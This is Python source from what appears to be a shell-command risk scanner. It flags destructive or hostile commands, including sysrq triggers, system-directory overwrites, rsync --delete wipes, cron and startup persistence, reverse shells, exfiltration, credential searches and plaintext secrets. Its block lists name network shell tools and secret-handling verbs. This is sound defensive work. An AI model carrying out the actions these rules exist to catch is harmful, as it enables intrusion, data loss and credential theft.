            add(Finding("block.shell.sysrq", Risk.CRITICAL, f"writes to {t}: the kernel's emergency keys{where}",
                        cmd.span))
    if special:
        if (name == "sysctl" and any(_RX_SEVERITY_4.match(w.lower()) for w in words)) or \
                (name == "tee" and any(_SYSRQ.match(w) for w in words)):
            add(Finding("block.shell.sysrq", Risk.CRITICAL, f"{name} enables or triggers sysrq{where}", cmd.span))
        # Windows copies into the system directories (backslashes may be gone: bash unquotes `C:\Windows`)
        # the operands, once, for the copies below (each check names programs of these only)
        ops = _operands(cmd) if name in _WIN_COPIERS or name in ("rsync", "install", "ln") else []
        if name in _WIN_COPIERS and len(ops) >= 2 and _WIN_SYSTEM.match(ops[-1][1]):
            add(Finding("block.shell.system-file-tamper", Risk.CRITICAL,
                        f"{name} writes into the Windows system directory ({ops[-1][1]}){where}", cmd.span))
        # rsync --delete into a root, home or system tree empties it
        if name == "rsync" and any(w.startswith("--delete") for w in words) and len(ops) >= 2:
            dest = ops[-1][1]
            if ":" not in dest.split("/", 1)[0]:
                hit = d.protected_target(cmd, dest)
                if hit:
                    add(Finding("block.shell.recursive-delete-root", Risk.CRITICAL,
                                f"rsync --delete into {hit}: deletes everything there that the source lacks{where}",
                                cmd.span))
        if name in ("rsync", "robocopy") and len(ops) >= 2:
            _empty_mirror(cmd, analysis, [w for _, w in ops], where, add)
        # copying or linking a file into a persistence path (hooks, autostart, cron, systemd, apt hooks)
        dests: list[str] = []
        if name in ("cp", "mv", "install", "ln", "rsync") and len(ops) >= 2:
            dests.append(ops[-1][1])
        elif name in ("dd",):
            dests += [a[3:] for a in words if a.startswith("of=")]
        for dest in dests:
            path = resolve_path(dest, cmd.cwd or None) or dest.lower()
            if LEGACY_AUTORUN.search(path):
                add(Finding("block.shell.malicious-persistence", Risk.CRITICAL,
                            f"{name} puts {dest} in a start-up place macOS keeps only for old software (emond rules, "
                            f"StartupItems): nothing current installs there, malware does{where}", cmd.span))
                break
            if d.persistence_path(path) or d.persistence_path(dest.lower()):
                add(Finding("confirm.shell.persistence", Risk.MEDIUM,
                            f"{name} puts {dest} where it runs later (startup, hooks, schedules){where}", cmd.span))
                break
    # persistence that runs a network shell
    persistent = (special or cmd.redirects) and ((name == "crontab" and "-l" not in words) or
        (name in ("at", "batch") and not any(w in ("-l", "-r", "-d", "-c") for w in words)) or
        (cmd.redirects and any(op in (">", ">>") and d.persistence_path(resolve_path(t, cmd.cwd or None) or t)
                               for op, t in cmd.redirects)) or
        (name == "tee" and any(d.persistence_path(resolve_path(w, cmd.cwd or None) or w) for w in words
                               if not w.startswith("-"))))
    if persistent:
        texts = [" ".join(c.argv[1:]) for c in (cmds[i] for i in cmd.upstream)
                 if c.name in ("echo", "printf", "cat")]
        texts += [" ".join(cmd.argv[1:])] if name in ("echo", "printf") else []
        texts += [cmd.stdin_text] if cmd.stdin_text else []
        for text in texts:
            if _NET_SHELL_TEXT.search(text) or _runs_network_shell(d, text):
                add(Finding("block.shell.malicious-persistence", Risk.CRITICAL,
                            f"makes a network shell run later ({name}){where}", cmd.span))
                return


def _runs_network_shell(d: Detector, text: str) -> bool:
    """Whether a line written to a startup file or crontab would run a reverse shell or remote code
    (the same detectors, run on the text that will run later)."""
    line = _CRON_PREFIX.sub("", text, count=1)
    # /etc/crontab lines name a user before the command: try the line with and without its first word
    return any(f.rule in ("block.shell.reverse-shell", "block.shell.remote-code-exec")
               for t in (line, line.strip().split(" ", 1)[-1]) for f in d.run(analyse(t)))


_SPAWNERS = frozenset({*SHELLS, *_REPLS, "script", "socat", "powershell", "pwsh"})
_SEARCH_PROGRAMS = frozenset({*_SEARCHERS, "find", "locate", "mlocate", "plocate", "fd", "fdfind", "get-childitem",
                              "gci", "dir", "where", "getcap"})
_SYSTEM_PROGRAMS = frozenset({"vssadmin", "wbadmin", "bcdedit", "wmic", *_SECURITY_TOOLS, "sysctl", "tee", "insmod",
                              "timedatectl", "hostnamectl", "localectl", "hwclock", "date", "loginctl", "gsettings",
                              "dconf", "", ":", "true", "echo", "printf", "cat", "cp", "terraform", "tofu",
                              "modprobe", "rmmod", "kldload", "kextload", "mount", "umount", "swapoff", "swapon",
                              "chattr", "setfacl", "chcon", "setfattr", "sed", "gsed"})
_REMOTE_PROGRAMS = frozenset({"curl", "curlie", "http", "https", "xh", "wget", "gh", *_DESKTOP_INPUT})
_PLATFORM_PROGRAMS = frozenset({*_SECRET_VERBS, "kubectl", "oc", "grep", "egrep", "rg", "findstr", "select-string",
                                "xattr", "defaults", "dscl", "tccutil", "pmset", "systemsetup", "scutil", "nvram",
                                "networksetup", "osascript", "sc", "net", "reg", "icacls", "takeown", "attrib",
                                "netsh", *_TUNNELS, "ssh", "autossh", *_SCANNERS, "nc", "ncat", "netcat", "cat",
                                "fallocate", "git"})


# logins that read a token or password on their standard input (`--with-token`, `--password-stdin`)
_STDIN_LOGINS = frozenset({"gh", "glab", "docker", "podman", "nerdctl", "helm", "buildah", "skopeo", "oras", "crane",
                           "vault", "op", "doctl", "flyctl", "fly"})
_STDIN_FLAG = re.compile(r"^--(with-token|password-stdin|stdin)$")
_LITERAL_SECRET = re.compile(r"^(?![$%])[^\s$`]{8,}$")


def secret_on_stdin(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """A login that reads its token from standard input, fed a literal from the same line (`gh auth login
    --with-token <<< ghp_...`, `echo hunter2pass | docker login --password-stdin`): the token is written into
    the shell history as surely as `-p` would put it there (`confirm.shell.secret-stored`)."""
    if not any(_STDIN_FLAG.match(w) for w in cmd.words[1:]):
        return
    fed = [cmd.stdin_text or ""]
    for i in cmd.upstream:
        up = analysis.commands[i]
        if up.name in ("echo", "printf", "print", "write-output"):
            fed.extend(a for k, a in enumerate(up.argv[1:], 1) if k not in up.dynamic and not a.startswith("-"))
    secret = next((t.strip() for t in fed if t and _LITERAL_SECRET.match(t.strip())), None)
    if secret:
        add(Finding("confirm.shell.secret-stored", Risk.HIGH,
                    f"{cmd.name} is handed a literal token or password on its input: it stays in the shell history"
                    f"{where}", cmd.span))


# tools whose config, login or remote verbs keep what they are given in a file
_SECRET_KEEPERS = frozenset({"cargo", "composer", "poetry", "aws", "az", "gcloud", "git", "vault", "kubectl", "npm",
                             "pnpm", "yarn", "pip", "pip3", "uv", "gem", "conda", "bundle", "dotnet", "nuget",
                             "doctl", "hcloud", "flyctl", "heroku", "netlify", "vercel", "wrangler", "terraform",
                             "helm", "gh", "glab", "hub", "svn", "hg", "rclone", "s3cmd", "mc"})
_KEEPING_VERBS = frozenset({"config", "configure", "login", "set-credentials", "set-cluster", "auth", "remote",
                            "clone", "signin", "sources", "source", "credentials", "set-url", "submodule"})
# a file name (`fixtures/aB3dE5gH7.json`): not a token, however random it looks
_FILE_WORD = re.compile(r"^[^:]*/|\.(json|ya?ml|toml|txt|md|py|js|ts|tsx|go|rs|rb|java|sh|csv|log|lock|cfg|ini)$",
                        re.I)
_TEXT_OUT = frozenset({"echo", "printf", "tee"})
# a file in a home that a tool or the shell reads again later: its dotfiles and config folders
_HOME_DOTFILE = re.compile(r"^(~|/home/[^/]+|/users/[^/]+|/root)/\.[^/]+")


def secret_kept(cmd: Command, where: str, add: Add) -> None:
    """A live token (a known format, or a random-looking key) given as a literal to a tool's config, login or
    remote verb, or written by echo/printf/tee into a dotfile of a home: it is kept in plain text in that file and
    in the shell history (`confirm.shell.secret-stored`). A `$VAR` or `$(...)` passes: the secret stays out of
    the line."""
    words = cmd.words
    if cmd.name in _TEXT_OUT:
        targets = [t for op, t in cmd.redirects if op in (">", ">>", ">|")]
        if cmd.name == "tee":
            targets += [w for w in words[1:] if not w.startswith("-")]
        if not targets or not any(_HOME_DOTFILE.match(t) for t in targets):  # (most: no file written at all)
            return
    else:
        for w in words[1:4]:  # (a loop, not any() over a generator: one function call less for every git or gh)
            if w in _KEEPING_VERBS or w.split(".", 1)[0] in ("credential", "url", "http"):
                break
        else:
            return
    literal = " ".join(a for k, a in enumerate(cmd.argv[1:], 1)
                       if k not in cmd.dynamic and ("://" in a or not _FILE_WORD.search(a)))
    if cmd.stdin_text:
        literal += " " + cmd.stdin_text[:512]
    if len(literal) >= 16 and find_secrets(literal):
        add(Finding("confirm.shell.secret-stored", Risk.HIGH,
                    f"{cmd.name} keeps a live token or key given on the command line in plain text: the file it "
                    f"writes and the shell history both hold it{where}", cmd.span))


class _Plan(NamedTuple):
    """The families of `judge` a program name belongs to, in the order judge runs them."""

    code_runner: bool  # code or socket tools: deskgate's own file names in their words are looked for
    before: tuple[Callable[..., None], ...]  # run before `severity`
    system: bool  # `system_state` (also run for any command with redirects or run on found items)
    after: tuple[Callable[..., None], ...]  # run after `system_state`
    platform: bool  # `secrets_and_platforms`
    echo: bool  # `secrets_and_platforms` when the command's text has a `$`
    # `judge`'s checks of a few program names each after `written_then_run`, each with the rest of its own first
    # test, `step(d, cmd, analysis, where, add, text)`, in this order: `copied`; `written`, run only for a command
    # with a redirect or for tee (each of them needs one); `named`; then, after the AMSI check, `coded`
    copied: tuple[Callable[..., None], ...] = ()
    written: tuple[Callable[..., None], ...] = ()
    named: tuple[Callable[..., None], ...] = ()
    coded: tuple[Callable[..., None], ...] = ()


Steps = tuple[Callable[..., None], ...]


def _named_steps(name: str) -> tuple[Steps, Steps, Steps, Steps]:
    """The `copied`, `written`, `named` and `coded` checks of `judge` for a program name, in the order judge runs
    them."""
    copied: list[Callable[..., None]] = []
    if name in _ACCOUNT_COPIERS:  # (its source is an argument under /etc/)
        copied.append(lambda d, cmd, analysis, where, add, text:
                      account_copy(cmd, where, add) if "/etc/" in " ".join(cmd.argv) else None)
    written: list[Callable[..., None]] = []  # (judge runs these for a command with a redirect, or for tee)
    if name in _TEXT_WRITERS:
        written.append(lambda d, cmd, analysis, where, add, text: webshell(cmd, analysis, where, add))
    if name in SHELLS:
        written.append(lambda d, cmd, analysis, where, add, text:
                       descriptor_shell(cmd, analysis, where, add) if cmd.redirects else None)
    if name in _TEXT_WRITERS:
        written.append(lambda d, cmd, analysis, where, add, text:
                       polkit_grant(cmd, analysis, where, add) if "polkit" in analysis.source else None)
    named: list[Callable[..., None]] = []  # (one program each, at most one of them)
    if name == "setfacl":
        named.append(lambda d, cmd, analysis, where, add, text: acl_grant(d, cmd, where, add))
    elif name == "plistbuddy":
        named.append(lambda d, cmd, analysis, where, add, text: plist_program(d, cmd, where, add))
    elif name in ("sc", "new-service"):
        named.append(lambda d, cmd, analysis, where, add, text: kernel_service(cmd, where, add))
    elif name in ("kextunload", "kmutil", "systemextensionsctl"):
        named.append(lambda d, cmd, analysis, where, add, text: kext_unload(cmd, where, add))
    elif name == "xattr":
        named.append(lambda d, cmd, analysis, where, add, text: quarantine_staged(cmd, where, add))
    elif name == "etcdctl":
        named.append(lambda d, cmd, analysis, where, add, text: registry_wipe(cmd, where, add))
    elif name in ("lxc", "incus"):
        named.append(lambda d, cmd, analysis, where, add, text: host_root_device(cmd, analysis, where, add))
    elif name in ("kubectl", "oc"):
        named.append(lambda d, cmd, analysis, where, add, text:
                     cluster_secrets_dump(cmd, analysis, where, add) if "secret" in text else None)
    coded: list[Callable[..., None]] = []
    if name in INTERPRETERS or name in ("iex", "invoke-expression"):
        coded.append(lambda d, cmd, analysis, where, add, text:
                     decoded_exec(cmd, where, add) if _DECODER_CALL.search(text) else None)
    if name in _NET_SINKS:
        coded.append(lambda d, cmd, analysis, where, add, text:
                     capture_sent(cmd, analysis, where, add) if len(analysis.commands) > 1 else None)
    return tuple(copied), tuple(written), tuple(named), tuple(coded)


# the names some `named` or `coded` check of `judge` is for
_NAMED_CHECKED = frozenset({*_ACCOUNT_COPIERS, *_TEXT_WRITERS, *SHELLS, "setfacl", "plistbuddy", "sc", "new-service",
                            "kextunload", "kmutil", "systemextensionsctl", "xattr", "etcdctl", "lxc", "incus",
                            "kubectl", "oc", *INTERPRETERS, "iex", "invoke-expression", *_NET_SINKS})


def _plan(name: str) -> _Plan:
    before: list[Callable[..., None]] = []
    if name in _SPAWNERS:
        before.append(lambda d, cmd, analysis, where, add: shell_spawn(cmd, analysis, where, add))
    if name in _NET_SINKS or name in _DNS_TOOLS:
        before.append(exfiltration)
    if name in _SEARCH_PROGRAMS:
        before.append(credential_search)  # (called as it is: the same arguments)
    after: list[Callable[..., None]] = []
    if name in _REMOTE_PROGRAMS:
        after.append(lambda d, cmd, analysis, where, add: remote_and_desktop(d, cmd, where, add))
    if name == "dvc":
        after.append(lambda d, cmd, analysis, where, add: data_remote_pushed(cmd, analysis, where, add))
    if name in _SERVERS or name in ("http.server", "simplehttpserver", "miniserve", "darkhttpd"):
        after.append(lambda d, cmd, analysis, where, add: file_server(d, cmd, where, add))
    if name in _X_TERMINALS:
        after.append(lambda d, cmd, analysis, where, add: remote_display(cmd, analysis, where, add))
    if name in ("aws", "gcloud", "az", "gsutil"):
        after.append(lambda d, cmd, analysis, where, add: cloud_defences(cmd, where, add))
    if name in WINDOWS_DEFENCE_PROGRAMS:
        after.append(lambda d, cmd, analysis, where, add: windows_defences(cmd, analysis, where, add))
    if name in _STDIN_LOGINS:
        after.append(lambda d, cmd, analysis, where, add: secret_on_stdin(cmd, analysis, where, add))
    if name in _SECRET_KEEPERS or name in _TEXT_OUT:
        after.append(lambda d, cmd, analysis, where, add: secret_kept(cmd, where, add))
    return _Plan(name in INTERPRETERS or name in _CODE_RUNNERS, tuple(before), name in _SYSTEM_PROGRAMS,
                 tuple(after), name in _PLATFORM_PROGRAMS,
                 name in ("echo", "printf", "print", "printenv", "write-output"), *_named_steps(name))


_NO_PLAN = _Plan(False, (), False, (), False, False)  # a name in none of the sets below: the checks of every command
# every name some family of `judge` tests for; any other name belongs to none of them (_NO_PLAN)
_PLANS: dict[str, _Plan] = {n: _plan(n) for n in (
    *INTERPRETERS, *_CODE_RUNNERS, *_SPAWNERS, *_NET_SINKS, *_DNS_TOOLS, *_SEARCH_PROGRAMS, *_SYSTEM_PROGRAMS,
    *_REMOTE_PROGRAMS, *_SERVERS, "http.server", "simplehttpserver", "miniserve", "darkhttpd", *_X_TERMINALS,
    "aws", "gcloud", "az", "gsutil", *WINDOWS_DEFENCE_PROGRAMS, *_PLATFORM_PROGRAMS, "echo", "printf", "print",
    "printenv", "write-output", *_STDIN_LOGINS, *_SECRET_KEEPERS, *_TEXT_OUT, *_NAMED_CHECKED, "dvc")}
